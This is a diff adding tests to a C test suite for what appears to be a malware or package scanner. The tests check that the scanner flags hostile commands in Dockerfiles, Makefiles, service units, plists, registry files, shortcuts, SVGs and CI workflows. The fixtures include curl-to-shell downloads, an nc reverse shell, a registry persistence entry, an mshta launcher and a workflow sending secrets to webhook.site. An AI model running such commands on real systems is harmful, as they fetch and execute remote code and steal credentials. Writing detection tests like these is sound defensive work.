@@ -749,6 +749,13 @@ TEST(archives_that_cannot_be_opened_are_told)
         files[1] = made("a.zip", &b);
         expect(files, 2, "never binary.odd what=limit path=a.zip");
         qn_buf_reset(&inner);
+        qn_buf_fill(&inner, 'x', QN_SCRIPT_MAX + 1); /* a script too long to be read */
+        qn_buf_reset(&b);
+        zip_of(&b, "configure.py", inner.p, inner.n);
+        files[1] = made("a.zip", &b);
+        expect(files, 2, "never binary.odd what=limit path=a.zip!/configure.py");
+        expect_not(files, 2, "never unanalysed");
+        qn_buf_reset(&inner);
         qn_buf_fill(&inner, ' ', QN_NESTED_MAX + 1);
         qn_buf_reset(&b);
         tb_gzip(&b, inner.p, inner.n);
@@ -756,4 +763,100 @@ TEST(archives_that_cannot_be_opened_are_told)
         expect(files, 2, "never binary.odd what=limit format=gzip");
         qn_buf_done(&b);
         qn_buf_done(&inner);
+}
+
+/* --- files that other programs take commands from --- */
+
+TEST(commands_in_recipes)
+{
+        expect(FILES(PKG,
+                     { "Dockerfile",
+                       "FROM x\nRUN --mount=type=cache curl http://a.invalid/x \\\n | sh\n", 0 }),
+               "never download.run host=a.invalid");
+        expect(FILES(PKG, { "Dockerfile", "ENTRYPOINT [\"nc\", \"-e\", \"/bin/sh\", \"a.invalid\"]",
+                            0 }),
+               "never net.connect");
+        expect(FILES(PKG,
+                     { "docker/Dockerfile.ci", "ADD --chown=1 https://a.invalid/x.tgz /x", 0 }),
+               "never net.connect how=docker host=a.invalid");
+        expect(FILES(PKG, { "Makefile", "all: x\n\t@curl -s http://a.invalid/$$X | sh\n", 0 }),
+               "never download.run host=a.invalid");
+        expect(FILES(PKG, { "a.service",
+                            "[Service]\nExecStart=-/bin/sh -c 'curl http://a.invalid | sh'\n", 0 }),
+               "never trigger how=unit");
+        expect(FILES(PKG, { "a.plist",
+                            "<key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</"
+                            "string>"
+                            "<string>curl http://a.invalid | sh</string></array>",
+                            0 }),
+               "never download.run host=a.invalid");
+        expect(FILES(PKG, { "a.reg",
+                            "[HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"
+                            "\"a\"=\"C:\\\\x.exe -q\"\r\n",
+                            0 }),
+               "never persist how=registry command=C:\\x.exe");
+}
+
+TEST(recipes_without_commands_are_silent)
+{
+        static const struct file quiet[] = {
+                { "Dockerfile",
+                  "FROM x\nADD a b\nCOPY . .\nENV A=1\n# RUN npm publish\n", 0 },
+                { "Makefile", "X = npm publish\nall:\n\n", 0 },
+                { "a.reg", "[HKCU\\Software\\Example]\n\"Theme\"=\"dark\"\n", 0 },
+                { "a.plist", "<key>ProgramArguments</key>", 0 },
+                { "a.svg", "<svg><path d=\"M0 0\"/></svg>", 0 },
+                { "a.lnk", "L\0\0\0\1\24\2\0", 8 },
+        };
+
+        for (size_t i = 0; i < QN_ARRAY_SIZE(quiet); i++) {
+                const struct file files[] = { PKG, { "index.js", "", 0 }, quiet[i] };
+                struct qn_str got = observe_in_order(files, 3, false);
+
+                if (got.n)
+                        fail_msg("%s\n%s", quiet[i].path, got.p);
+        }
+}
+
+TEST(shortcuts_start_programs)
+{
+        struct qn_buf b = QN_BUF_INIT(EB_MAX);
+        struct file files[] = { PKG, { 0 } };
+
+        qn_buf_add(&b, "L\0\0\0\1\24\2\0", 8);
+        qn_buf_fill(&b, 0, 12);
+        qn_buf_byte(&b, 8 | 32); /* a relative path and arguments, one byte a character */
+        qn_buf_fill(&b, 0, 55);
+        qn_buf_add(&b, "\21\0..\\bin\\mshta.exe.", 19);
+        qn_buf_add(&b, "\22\0http://a.invalid/x", 20);
+        files[1] = made("manual.lnk", &b);
+        expect(files, 2, "never trigger how=shortcut command=mshta.exe");
+        b.n -= 10;
+        files[1] = made("manual.lnk", &b); /* cut short */
+        expect(files, 2, "never trigger how=shortcut");
+        qn_buf_done(&b);
+}
+
+TEST(pictures_with_scripts_act)
+{
+        expect(FILES(PKG, { "a.svg", "<svg onload=\"eval(atob('MQ=='))\"></svg>", 0 }),
+               "browser code.eval");
+        expect(FILES(PKG, { "a.svg", "<svg><script>eval(atob('MQ=='))</script></svg>", 0 }),
+               "browser code.eval");
+}
+
+TEST(workflows_that_send_secrets)
+{
+        static const char form[] =
+                "on: push\njobs:\n  a:\n    steps:\n    - run: curl -d ${{ secrets.T }} %s\n";
+        char text[512];
+
+        snprintf(text, sizeof text, form, "https://webhook.site/x");
+        expect(FILES(PKG, { ".github/workflows/a.yml", text, 0 }),
+               "never workflow.write what=sends-secrets host=webhook.site class=request-bin");
+        expect(FILES(PKG,
+                     { ".github/workflows/a.yml",
+                       "on: pull_request_target\nx: ${{ github.event.pull_request.head.sha }}\n",
+                       0 }),
+               "never workflow.write what=foreign-code");
 }
